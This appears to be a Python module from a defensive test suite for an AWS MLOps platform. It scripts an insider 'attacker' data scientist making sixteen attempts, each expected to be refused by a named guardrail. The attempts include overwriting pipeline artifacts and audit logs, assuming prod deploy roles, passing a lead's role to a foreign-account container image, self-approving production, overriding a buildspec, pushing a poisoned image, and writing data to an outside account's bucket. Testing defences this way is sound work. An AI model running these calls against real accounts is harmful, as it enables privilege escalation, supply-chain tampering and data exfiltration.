"""What an attacker tries with the session that Studio gives a data scientist."""

import time
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cached_property
from typing import Any, Final

from mlops_commons.contract import Persona, StageName
from mlops_commons.utilities import names, toolkit
from mlops_rehearsal.world.projects import Project, persona_credentials
from mlops_rehearsal.world.world import World

DENIED: Final = "AccessDenied"
FOREIGN: Final = "666666666666"
"""An account that no configuration names."""
LOOT: Final = b"loot"


@dataclass(frozen=True)
class Attacker:
    """A data scientist with bad intentions, in a world with a project."""

    world: World
    project: Project

    @cached_property
    def credentials(self) -> Mapping[str, str]:
        """Of the session in Studio."""
        return persona_credentials(self.world, self.project.dev, Persona.DATA_SCIENTIST)

    def client(self, service: str) -> Any:
        """A client in the dev account."""
        return self.world.client(service, self.project.dev.region, self.credentials)

    def look(self, service: str) -> Any:
        """What only somebody knows who has looked around; never used for an attempt."""
        return self.world.administrator(service, self.project.dev.account, self.project.dev.region)

    def bucket(self, part: str) -> str:
        """The bucket of dev whose name holds a text."""
        found = [b["Name"] for b in self.look("s3").list_buckets()["Buckets"]]
        return str(next(name for name in sorted(found) if part in name))

    def overwrite(self, part: str, key: str) -> None:
        """Write an object of a bucket."""
        self.client("s3").put_object(Bucket=self.bucket(part), Key=key, Body=LOOT)

    def role(self, who: Persona) -> str:
        """The role of a persona."""
        dev = self.project.dev
        name = who.parameter.within(dev.parameter_namespace)
        return str(self.look("ssm").get_parameter(Name=name)["Parameter"]["Value"])


@dataclass(frozen=True)
class Attempt:
    """One attempt.

    Attributes:
        does: for the report.
        on: what it is aimed at.
        how: makes the call; it must raise.
        stopped_by: the statement or the gate that says no.
        says: a text of the refusal.
    """

    does: str
    on: str
    how: Callable[[Attacker], object]
    stopped_by: str
    says: str = DENIED


def _assume(who: Attacker, role: str) -> object:
    prod = who.project.deployment.stage(StageName.PROD)
    assert prod
    arn = f"arn:aws:iam::{prod.account}:role/{role}"
    return who.client("sts").assume_role(RoleArn=arn, RoleSessionName="attack")


def _deploy_role(who: Attacker) -> object:
    set_name = who.project.deployment.set_name
    prod = who.project.deployment.stage(StageName.PROD)
    assert prod
    prefix = who.world.config.app_prefix
    role = names.project_deploy_role(prefix, set_name, prod.stage_name, prod.region)
    return _assume(who, role)


def _bootstrap_role(who: Attacker) -> object:
    prod = who.project.deployment.stage(StageName.PROD)
    assert prod
    return _assume(who, toolkit.deploy_role(prod.account, prod.region))


def _model_of_lead(who: Attacker) -> object:
    return who.client("sagemaker").create_model(
        ModelName=f"attack-{who.project.project_id}",
        ExecutionRoleArn=who.role(Persona.LEAD_DATA_SCIENTIST),
        PrimaryContainer={"Image": f"{FOREIGN}.dkr.ecr.eu-west-1.amazonaws.com/x:1"},
    )


def _approve(who: Attacker) -> object:
    return who.client("codepipeline").put_approval_result(
        pipelineName=who.project.pipeline("deploy"),
        stageName="Deploy-prod",
        actionName="Approve-prod",
        token="00000000-0000-0000-0000-000000000000",
        result={"summary": "fine", "status": "Approved"},
    )


def _buildspec(who: Attacker) -> object:
    projects = who.look("codebuild").list_projects()["projects"]
    name = next(p for p in sorted(projects) if who.project.project_id in p)
    return who.client("codebuild").start_build(
        projectName=name, buildspecOverride="phases: {build: {commands: [id]}}"
    )


def _profile(who: Attacker) -> object:
    look = who.look("sagemaker")
    lead = who.role(Persona.LEAD_DATA_SCIENTIST)
    for profile in look.list_user_profiles()["UserProfiles"]:
        domain, name = profile["DomainId"], profile["UserProfileName"]
        described = look.describe_user_profile(DomainId=domain, UserProfileName=name)
        if described["UserSettings"]["ExecutionRole"] == lead:
            return who.client("sagemaker").create_presigned_domain_url(
                DomainId=domain, UserProfileName=name
            )
    raise AssertionError("no profile has the lead's role")


def _send_out(who: Attacker) -> object:
    """A bucket of another account lets everybody write."""
    place = who.world.config.pipeline
    s3 = who.world.administrator("s3", place.account, place.region)
    bucket = f"mlops-loot-{int(time.time())}"
    s3.create_bucket(Bucket=bucket, CreateBucketConfiguration={"LocationConstraint": place.region})
    try:
        return who.client("s3").put_object(Bucket=bucket, Key="loot", Body=LOOT)
    finally:
        s3.delete_bucket(Bucket=bucket)


def _poison(who: Attacker) -> object:
    return who.client("ecr").put_image(
        repositoryName=f"sagemaker-{who.project.project_id}",
        imageManifest="{}",
        imageTag="0" * 40,
    )


def _launch(who: Attacker) -> object:
    catalog = who.look("servicecatalog")
    product = catalog.search_products_as_admin()["ProductViewDetails"][0]["ProductViewSummary"]
    return who.client("servicecatalog").provision_product(
        ProductId=product["ProductId"],
        ProvisioningArtifactName="1.0.0",
        ProvisionedProductName="attack",
        ProvisioningParameters=[{"Key": "ProdAccount", "Value": FOREIGN}],
    )


ATTEMPTS: Final = (
    Attempt(
        "exchanges what the stages deploy",
        "Assembly",
        lambda who: who.overwrite(f"{who.project.project_id}-pipeline", "deploy/Assembly/x.zip"),
        "`WriteData`; `OnlyPipelinesAndSynthWrite` of the bucket",
    ),
    Attempt(
        "overwrites the seed of every later project",
        "seed archive",
        lambda who: who.overwrite("-sc-assets-", "seed.zip"),
        "`WriteData`",
    ),
    Attempt(
        "overwrites the log of who did what",
        "access log",
        lambda who: who.overwrite("-project-logs-", "log"),
        "`WriteData`",
    ),
    Attempt(
        "swaps a registered model",
        "registered/",
        lambda who: who.overwrite(
            f"{who.project.project_id}-artifacts", "registered/0/model.tar.gz"
        ),
        "`WriteData`; the bucket's policy",
    ),
    Attempt(
        "swaps the sources of jobs",
        "sources/",
        lambda who: who.overwrite(f"{who.project.project_id}-artifacts", "sources/0/evaluate.py"),
        "`WriteData`; the bucket's policy",
    ),
    Attempt("pushes an image before its build", "image tag", _poison, "`UseProjectImages`"),
    Attempt("names a foreign account for prod", FOREIGN, _launch, "`LaunchProducts` of leads"),
    Attempt("becomes the deploy role of prod", "project deploy role", _deploy_role, "its trust"),
    Attempt("becomes the bootstrap's role of prod", "cdk role", _bootstrap_role, "its trust"),
    Attempt("runs a container as the lead", "model", _model_of_lead, "`iam:PassRole` of one role"),
    Attempt("approves prod", "Approve-prod", _approve, "`ApproveDeployments` of leads"),
    Attempt("starts a build with commands of his own", "build", _buildspec, "no such permission"),
    Attempt("opens the lead's profile", "profile", _profile, "`NoWayIntoAnotherProfile`"),
    Attempt(
        "makes a role for himself",
        "role",
        lambda who: who.client("iam").create_role(
            RoleName=f"sagemaker-{who.project.project_id}-x", AssumeRolePolicyDocument="{}"
        ),
        "no such permission",
    ),
    Attempt(
        "deploys a version of his choice",
        "deploy pipeline",
        lambda who: who.client("codepipeline").start_pipeline_execution(
            name=who.project.pipeline("deploy")
        ),
        "no such permission",
    ),
    Attempt("sends data out", "bucket of a foreign account", _send_out, "`aws:ResourceAccount`"),
)
